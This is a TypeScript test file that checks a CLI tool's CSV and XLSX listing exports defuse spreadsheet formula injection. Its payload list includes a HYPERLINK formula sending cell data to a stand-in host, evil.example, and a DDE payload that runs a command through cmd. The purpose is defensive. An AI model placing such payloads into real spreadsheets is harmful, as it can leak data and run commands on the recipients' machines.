import fs from 'node:fs';
import path from 'node:path';
import { describe, it, expect, afterAll } from 'vitest';
import * as XLSX from '@e965/xlsx';
import { fixture } from '../helpers/cli.js';
import { cli, tmpDir } from './helpers.js';

/** Formula injection (CSV/DDE injection): cells that a spreadsheet would run as formulas must come out as text. */
const dir = tmpDir();
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '=1+1'];

const base = JSON.parse(fs.readFileSync(fixture('records', 'valid-guide2017.jsonl'), 'utf8').trim().split('\n')[1]);
const records = PAYLOADS.map((p, i) => ({ ...base, title: p, abstract: p, resourceCode: `301002/${String(i + 1).padStart(5, '0')}` }));

describe('formula injection in listings', () => {
  const input = path.join(dir, 'records.jsonl');
  fs.writeFileSync(input, records.map((r) => JSON.stringify(r)).join('\n') + '\n');

  it('listing-csv: every dangerous cell starts with a quote mark', async () => {
    const out = path.join(dir, 'listing.csv');
    const r = await cli(['export', input, '--to', 'listing-csv', '-o', out]);
    expect(r.code, r.stderr).toBe(0);
    const text = fs.readFileSync(out, 'utf8');
    const wb = XLSX.read(text, { type: 'string', raw: true });
    const rows = XLSX.utils.sheet_to_json<string[]>(wb.Sheets[wb.SheetNames[0]], { header: 1, raw: true, defval: '' });
    const cells = rows.slice(1).flat().map(String);
    for (const p of PAYLOADS) expect(cells).toContain(`'${p}`);
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t]/);
  });

  it('listing-xlsx: the payloads are text cells, never formulas', async () => {
    const out = path.join(dir, 'listing.xlsx');
    const r = await cli(['export', input, '--to', 'listing-xlsx', '-o', out]);
    expect(r.code, r.stderr).toBe(0);
    const wb = XLSX.read(fs.readFileSync(out), { type: 'buffer', cellFormula: true });
    let seen = 0;
    for (const name of wb.SheetNames) {
      const ws = wb.Sheets[name];
      for (const [addr, cell] of Object.entries(ws)) {
        if (addr.startsWith('!')) continue;
        const c = cell as XLSX.CellObject;
        expect(c.f, `${name}!${addr}`).toBeUndefined();
        if (typeof c.v === 'string' && PAYLOADS.some((p) => c.v === `'${p}` || c.v === p)) {
          seen++;
          expect(c.t).toBe('s');
        }
      }
    }
    expect(seen).toBeGreaterThanOrEqual(PAYLOADS.length);
  });
});
